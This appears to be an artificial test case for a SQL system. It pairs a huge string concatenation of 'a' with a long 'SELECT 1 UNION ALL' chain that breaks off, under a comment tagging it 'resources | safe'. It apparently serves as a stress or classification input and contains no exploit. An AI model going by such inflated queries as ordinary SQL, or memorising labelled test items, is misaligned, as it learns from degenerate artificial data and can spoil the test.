|| 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a'

-- resources | safe
SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL 